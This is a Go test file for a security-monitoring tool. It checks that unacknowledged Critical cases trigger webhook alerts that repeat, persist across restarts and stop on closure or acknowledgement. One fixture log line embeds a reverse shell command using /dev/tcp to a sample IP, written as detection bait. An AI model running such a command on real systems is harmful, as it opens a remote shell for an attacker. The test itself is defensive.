package app

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"penstock/core/event"
	"penstock/core/policy"
	"penstock/core/site"
)

// pager is a webhook that people listen to.
type pager struct {
	mu   sync.Mutex
	told []string
}

func (p *pager) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	text, err := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	if err != nil || !json.Valid(text) {
		w.WriteHeader(http.StatusBadRequest)
		return
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	p.told = append(p.told, string(text))
}

func (p *pager) texts() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]string{}, p.told...)
}

// atWork is attackDay with a sign in the end that somebody is in.
func atWork() string {
	return attackDay() + attackEnds().Format(time.RFC3339) +
		" gw1 sudo:     root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1\n"
}

// SAFETY C5: a Critical case that nobody who may has acknowledged is told past Zabbix.
func TestCriticalThatNobodyAcknowledgedIsToldPastZabbix(t *testing.T) {
	t.Parallel()

	s, c := newSite(t), clockAt(attackEnds())
	s.now = c.now
	s.config.Site.Assets = []site.AssetOptions{{Name: "gw1", Zone: event.ZoneIT}}
	people := &pager{}
	server := httptest.NewServer(people)
	t.Cleanup(server.Close)
	s.config.Notify.Webhook.URL = server.URL
	s.config.Policy.Approvers = []policy.Approver{{Name: "eva"}}
	s.write(atWork())
	w := s.start()
	w.settled(lineCount(atWork()))
	critical, err := w.criticalCases(t.Context())
	if err != nil || len(critical) != 1 {
		t.Fatalf("%d Critical cases, %v", len(critical), err)
	}
	id := critical[0].Case
	step := func(name string, d time.Duration, want int) {
		t.Helper()
		c.jump(d)
		must(t, w.alarmOnce(t.Context()))
		told := people.texts()
		if len(told) != want {
			t.Errorf("%s: people were told %d times, want %d", name, len(told), want)
		}
		if len(told) > 0 && !strings.Contains(told[0], id) {
			t.Errorf("%s: %s does not name case %s", name, told[0], id)
		}
	}
	step("+ soon", 0, 0)
	step("+ before its time", s.config.Notify.After-time.Minute, 0)
	step("+ in time", 2*time.Minute, 1)
	step("+ told once", time.Minute, 1)
	must(t, w.end())
	w = s.start() // remembers
	step("+ after a restart", time.Minute, 1)
	step("+ again", s.config.Notify.Repeat, 2)

	server.CloseClientConnections()
	server.Close()
	c.jump(s.config.Notify.Repeat)
	if err := w.alarmOnce(t.Context()); err == nil {
		t.Error("- nobody listens: no error")
	}
	if _, err := w.markAs(t.Context(), "eva", MarkArgs{Case: id, Label: LabelClosed}); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the end of the case", func() bool {
		critical, err := w.criticalCases(t.Context())
		return err == nil && len(critical) == 0
	})
	must(t, w.alarmOnce(t.Context()))
	must(t, w.end())
}

func TestAnAcknowledgementKeepsPeopleFromBeingTold(t *testing.T) {
	t.Parallel()

	s, c := newSite(t), clockAt(attackEnds())
	s.now = c.now
	w := &Worker{o: WorkerOptions{Config: s.config}, now: c.now, publisher: &publisher{acked: map[string]string{"c": "eva"}}}
	old := alarmOf{Since: c.now().Add(-24 * time.Hour)}
	if w.isAlarmDue(old, "c") || !w.isAlarmDue(old, "d") {
		t.Error("what was acknowledged, or what was not, is judged wrongly")
	}
	w.publisher = nil // Zabbix is not configured
	if !w.isAlarmDue(old, "c") {
		t.Error("without Zabbix nobody can have acknowledged it")
	}
}
